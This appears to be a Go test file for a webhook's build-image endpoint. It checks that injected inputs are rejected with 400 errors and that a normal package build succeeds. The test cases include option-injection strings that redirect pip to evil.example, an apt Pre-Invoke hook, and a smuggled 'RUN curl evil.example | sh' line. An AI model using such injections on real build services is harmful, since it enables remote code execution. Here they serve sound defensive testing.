package local_test

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/flyte-webhook/flyte-webhook/impl"
)

// TestBuildImageOverHTTP: build_image through the whole handler onto this backend (stand-in
// builder): the query's lists are built, image_name is null without a name, and the run is
// followed with the run endpoints. The security probe's cases (option injection, a newline in
// the base image) are 400 problems naming the field.
func TestBuildImageOverHTTP(t *testing.T) {
	t.Parallel()
	b, _ := openBuilds(t, nil)
	h, err := impl.NewHandler(impl.Config{Name: "test-webhook"}, b)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	do := func(method, target, body string) (int, string, map[string]any) {
		t.Helper()
		req, _ := http.NewRequest(method, srv.URL+target, strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer anyone")
		if body != "" {
			req.Header.Set("Content-Type", "application/json")
		}
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		var out map[string]any
		_ = json.NewDecoder(res.Body).Decode(&out)
		return res.StatusCode, res.Header.Get("Content-Type"), out
	}

	for _, c := range []struct{ name, target, body, field string }{
		{"pip option injection", "/build-image", `{"pip_packages": ["--index-url=https://evil.example/simple", "numpy"]}`, "pip_packages[0]"},
		{"pip short option in the query", "/build-image?pip_packages=-ohttps://evil.example", "", "pip_packages[0]"},
		{"apt option injection", "/build-image", `{"apt_packages": ["-oAPT::Update::Pre-Invoke::=id"]}`, "apt_packages[0]"},
		{"newline in the base image", "/build-image?base_image=" + url.QueryEscape("debian:12\nRUN curl evil.example | sh"), "", "base_image"},
		{"base image as an option", "/build-image?base_image=--network%3Dhost", "", "base_image"},
		{"platform with a space", "/build-image?platform=" + url.QueryEscape("linux/amd64 --privileged"), "", "platform[0]"},
	} {
		t.Run(c.name, func(t *testing.T) {
			status, ctype, p := do("POST", c.target, c.body)
			detail, _ := p["detail"].(string)
			if status != http.StatusBadRequest || ctype != "application/problem+json" || !strings.HasPrefix(detail, c.field+":") {
				t.Fatalf("%d %s %v: want a 400 problem naming %s", status, ctype, p, c.field)
			}
		})
	}

	status, _, res := do("POST", "/build-image?base_image=localhost/base:1&pip_packages=numpy&pip_packages="+url.QueryEscape("pandas>=2,<3"), "")
	if status != http.StatusOK || res["image_name"] != nil {
		t.Fatalf("%d %v: want 200 with image_name null", status, res)
	}
	runURL, _ := res["image_build_run_url"].(string)
	name := runURL[strings.LastIndex(runURL, "/")+1:]
	waitDone(t, b, name)
	status, _, run := do("GET", "/run/"+name, "")
	if status != http.StatusOK || run["phase"] != "succeeded" {
		t.Fatalf("get_run of the build: %d %v", status, run)
	}
	_, _, io := do("GET", "/run/"+name+"/io", "")
	outputs, _ := io["outputs"].(map[string]any)
	cf, _ := outputs["containerfile"].(string)
	if !strings.Contains(cf, "'numpy' 'pandas>=2,<3'") {
		t.Errorf("the Containerfile does not install the query's packages:\n%s", cf)
	}
	if status, _, _ := do("POST", "/run/"+name+"/abort", ""); status != http.StatusConflict {
		t.Errorf("abort_run of the finished build: %d, want 409", status)
	}
}
